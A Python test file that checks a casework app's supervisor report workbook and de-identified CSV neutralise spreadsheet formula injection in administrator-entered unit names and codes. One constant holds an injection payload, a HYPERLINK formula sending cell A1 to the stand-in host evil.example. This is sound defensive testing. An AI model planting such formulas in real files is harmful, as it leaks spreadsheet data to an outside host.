"""Names typed by an administrator never become live formulas in what supervisors download
(issue 18, finding 4): the report workbook and the de-identified CSV."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from casework.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Huyện Một")'


def test_a_unit_renamed_to_a_formula_stays_text_in_the_report_workbook(
        app, make_user, login, org, scenario):
    admin = app.test_client()
    login(admin, make_user("admin"))
    renamed = admin.submit(f"/admin/units/{org.d1.id}/rename", {"name": FORMULA},
                           page=f"/admin/units/{org.d1.id}")
    assert renamed.status_code == 302
    db.session.refresh(org.d1)
    assert org.d1.name == FORMULA
    supervisor = app.test_client()
    login(supervisor, make_user("supervisor", unit=org.province))
    response = supervisor.get("/supervision/report.xlsx?period=2024H1")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml for xml in sheets)
    units = load_workbook(io.BytesIO(response.data)).worksheets[1]
    names = [row[0].value for row in units.iter_rows(min_row=2)]
    assert FORMULA in names


def test_a_unit_code_like_a_formula_is_neutralised_in_the_deidentified_csv(
        make_app, make_user, login, org, scenario):
    app = make_app(small_count_suppression="0")
    org.d1.code = "=1+2"
    db.session.commit()
    client = app.test_client()
    login(client, make_user("supervisor", unit=org.province))
    text = client.get("/supervision/export.csv?period=2024H1").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    districts = {r[2] for r in rows if r and not r[0].startswith("#") and len(r) > 2}
    assert "'=1+2" in districts
    cells = [c for r in rows for c in r]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
